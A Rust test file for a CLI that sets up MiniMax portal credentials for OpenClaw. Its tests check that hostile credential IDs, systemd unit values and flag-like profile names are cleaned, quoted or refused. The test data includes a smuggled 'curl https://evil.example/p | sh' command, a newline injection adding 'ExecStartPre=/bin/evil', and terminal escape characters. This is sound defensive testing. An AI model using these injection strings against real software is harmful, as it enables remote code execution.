//! A hostile or odd OpenClaw (a script on PATH passed as `--openclaw`, the
//! fault a real OpenClaw cannot be made to produce), the `--service` unit
//! under an unusual shell, and profile names that would clash or read as
//! flags.

use crate::support::cli::{Plugin, Run};
use crate::support::minimax::MiniMax;
use serde_json::json;
use std::path::{Path, PathBuf};
use std::time::Instant;

/// An `openclaw` that accepts every patch and validates, and answers
/// `models status --json` with `status` (leaving a grandchild that holds
/// its output open, with its pid in `pid`, when `linger` is set).
fn fake_openclaw(dir: &Path, status: &serde_json::Value, linger: bool) -> PathBuf {
    std::fs::write(dir.join("status.json"), status.to_string()).expect("write status");
    let linger = if linger {
        "sleep 120 & echo $! > \"$dir/pid\""
    } else {
        ":"
    };
    let script = format!(
        "#!/bin/sh\n\
         dir=$(dirname \"$0\")\n\
         case \"$1 $2\" in\n\
         \"config file\") exit 1 ;;\n\
         \"config validate\") echo '{{\"valid\":true}}' ;;\n\
         \"models status\") {linger}; cat \"$dir/status.json\" ;;\n\
         *) : ;;\n\
         esac\n"
    );
    let path = dir.join("openclaw");
    std::fs::write(&path, script).expect("write the script");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    path
}

fn credentials(ids: &[&str]) -> serde_json::Value {
    let profiles: Vec<_> = ids
        .iter()
        .map(|id| json!({"provider": "minimax-portal", "profileId": id}))
        .collect();
    json!({"auth": {"oauth": {"profiles": profiles}}})
}

fn setup_with(plugin: &Plugin, openclaw: &Path, extra: &[&str]) -> Run {
    plugin.run(&crate::openclaw::setup_args(openclaw, extra))
}

fn signed_in() -> (crate::support::http_server::Portal, Plugin) {
    let (portal, _mm) = MiniMax::new().start();
    let plugin = Plugin::new(&portal.url());
    plugin.login(&[]).expect_code(0);
    (portal, plugin)
}

#[test]
fn credential_ids_from_openclaw_are_shown_clean_and_never_pasted_into_a_command() {
    let (_portal, plugin) = signed_in();
    let dir = tempfile::tempdir().expect("temp dir");
    let hostile = [
        "x; curl https://evil.example/p | sh; #",
        "\u{1b}[2Jwiped\u{202e}gnp.exe",
        "zero\u{200b}width",
        "minimax-portal:mine",
    ];
    let openclaw = fake_openclaw(dir.path(), &credentials(&hostile), false);
    let run = setup_with(&plugin, &openclaw, &[]);
    run.expect_code(0);
    let all = run.all_output();
    for bad in ['\u{1b}', '\u{202e}', '\u{200b}'] {
        assert!(!all.contains(bad), "{bad:?} reached the terminal:\n{all}");
    }
    run.stderr_has("fix: openclaw models auth logout minimax-portal:mine --yes");
    run.stderr_lacks("logout x;");
    run.stderr_lacks("logout zero");
    run.stderr_lacks("logout [2J");
    // Still named, so the user can find it.
    run.stderr_has("x; curl https://evil.example/p | sh; #");
}

#[test]
fn setup_does_not_wait_for_a_grandchild_that_keeps_openclaws_output_open() {
    let (_portal, plugin) = signed_in();
    let dir = tempfile::tempdir().expect("temp dir");
    let openclaw = fake_openclaw(dir.path(), &credentials(&[]), true);
    let started = Instant::now();
    // `finish` fails the test past 60 s; the grandchild lives 120 s.
    let run = setup_with(&plugin, &openclaw, &[]);
    let took = started.elapsed();
    if let Ok(pid) = std::fs::read_to_string(dir.path().join("pid")) {
        let _ = std::process::Command::new("kill").arg(pid.trim()).status();
    }
    run.expect_code(0);
    eprintln!("setup took {took:?} with a lingering grandchild");
}

/// `openclaw setup --service` in a shell with umask 002 and an nvm-like
/// Node: the unit is written, finds node, and quotes what it carries.
#[cfg(target_os = "linux")]
#[test]
fn the_service_unit_finds_node_and_quotes_what_it_carries() {
    use std::os::unix::fs::PermissionsExt;
    let (_portal, mut plugin) = signed_in();
    let dir = tempfile::tempdir().expect("temp dir");
    // OpenClaw as npm installs it: a script run by `#!/usr/bin/env node`,
    // with node in a folder of nvm's that only this shell's PATH names.
    // (This node runs the script with sh.)
    let openclaw = fake_openclaw(dir.path(), &credentials(&[]), false);
    let script = std::fs::read_to_string(&openclaw).expect("script");
    let script = script.replacen("#!/bin/sh", "#!/usr/bin/env node", 1);
    std::fs::write(&openclaw, script).expect("script");
    let node_bin = dir.path().join("nvm/versions/node/v24/bin");
    std::fs::create_dir_all(&node_bin).expect("node folder");
    std::fs::write(node_bin.join("node"), "#!/bin/sh\nexec /bin/sh \"$@\"\n").expect("node");
    std::fs::set_permissions(
        node_bin.join("node"),
        std::fs::Permissions::from_mode(0o755),
    )
    .expect("chmod");
    let config = dir.path().join("config");
    let path = format!("{}:relative/bin:/usr/bin:/bin", node_bin.display());
    plugin
        .set("XDG_CONFIG_HOME", config.to_str().expect("utf-8"))
        .set("PATH", &path)
        .set("OPENCLAW_STATE_DIR", "/srv/oc 100%\"\\x");
    let args = [
        "-c",
        "umask 002; exec \"$0\" \"$@\"",
        crate::support::cli::BIN,
        "openclaw",
        "setup",
        "--route",
        "exec",
        "--service",
        "--openclaw",
        openclaw.to_str().expect("utf-8"),
    ];
    let run = crate::support::cli::finish(
        plugin
            .command_for(Path::new("/bin/sh"), &args)
            .spawn()
            .expect("sh"),
    );
    run.expect_code(0);
    let unit_dir = config.join("systemd/user");
    let mode = std::fs::metadata(&unit_dir)
        .expect("unit folder")
        .permissions()
        .mode();
    assert_eq!(mode & 0o022, 0, "mode {:o}", mode & 0o777);
    let unit = std::fs::read_to_string(unit_dir.join("minimax-portal-auth-watch.service"))
        .expect("the unit");
    let path_line = unit
        .lines()
        .find(|l| l.starts_with("Environment=\"PATH="))
        .unwrap_or_else(|| panic!("no PATH in\n{unit}"));
    assert!(
        path_line.contains(&format!("{}:", node_bin.display())),
        "{path_line}"
    );
    assert!(!path_line.contains("relative/bin"), "{path_line}");
    assert!(
        unit.contains("Environment=\"OPENCLAW_STATE_DIR=/srv/oc 100%%\\\"\\\\x\""),
        "{unit}"
    );
    // The --then command runs with nothing but the unit's environment, as
    // under systemd.
    let vars: Vec<(String, String)> = unit
        .lines()
        .filter_map(|l| l.strip_prefix("Environment=\""))
        .filter_map(|l| l.strip_suffix('"'))
        .map(|l| {
            l.replace("\\\"", "\"")
                .replace("\\\\", "\\")
                .replace("%%", "%")
        })
        .filter_map(|l| {
            l.split_once('=')
                .map(|(n, v)| (n.to_string(), v.to_string()))
        })
        .collect();
    let reload = std::process::Command::new(std::fs::canonicalize(&openclaw).expect("real path"))
        .args(["secrets", "reload"])
        .env_clear()
        .envs(vars)
        .output()
        .expect("run openclaw as the unit would");
    assert!(
        reload.status.success(),
        "{}",
        String::from_utf8_lossy(&reload.stderr)
    );

    // A value with a line break would add a line to the unit: refused.
    plugin.set("OPENCLAW_STATE_DIR", "/srv\nExecStartPre=/bin/evil");
    let run = setup_with(&plugin, &openclaw, &["--service"]);
    run.expect_code(1).stderr_has("OPENCLAW_STATE_DIR");
    let unit = std::fs::read_to_string(unit_dir.join("minimax-portal-auth-watch.service"))
        .expect("the unit");
    assert!(!unit.contains("ExecStartPre"), "{unit}");
}

#[test]
fn profile_names_that_clash_in_openclaw_or_read_as_flags_are_refused() {
    let (_portal, plugin) = signed_in();
    for args in [
        vec![
            "login",
            "--no-browser",
            "--region",
            "global",
            "--profile=-rf",
        ],
        vec!["token", "--profile=-rf"],
        vec!["switch", "--", "-rf"],
    ] {
        plugin
            .run(&args)
            .expect_code(2)
            .stderr_has("must not start with '-'");
    }
    // `Work` would be OpenClaw's `minimax-portal-work`, which is `work`'s.
    plugin
        .run(&["openclaw", "setup", "--dry-run", "-p", "Work"])
        .expect_code(2)
        .stderr_has("lowercase");
    plugin
        .run(&["openclaw", "setup", "--remove", "--dry-run", "-p", "Work"])
        .expect_code(2)
        .stderr_has("lowercase");
}
